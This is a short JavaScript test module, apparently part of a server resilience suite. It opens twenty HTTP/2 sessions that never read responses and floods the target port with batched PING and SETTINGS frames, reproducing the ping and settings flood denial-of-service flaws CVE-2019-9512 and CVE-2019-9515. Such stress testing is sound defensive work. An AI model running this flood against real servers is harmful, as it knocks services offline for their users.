import { h2Frame, RawSession, settingsFrame, TYPE } from '../../lib/http2-frames.mjs';

const many = (bytes) => Buffer.concat(Array.from({ length: 500 }, () => bytes));
const pings = many(h2Frame(TYPE.ping, 0, 0, Buffer.alloc(8)));
const settings = many(settingsFrame({ 3: 100 }));

export const row = {
  title: '20 sessions that never read flood PING and SETTINGS (CVE-2019-9512, -9515)',
  over: 'http2',
  peak: 20,
  async attack({ port, ends }) {
    const sessions = Array.from({ length: 20 }, () => new RawSession(port, { deaf: true }));
    await Promise.all(
      sessions.map((session, index) => session.flood(() => (index % 2 ? pings : settings), ends)),
    );
    for (const session of sessions) session.socket.destroy();
  },
};
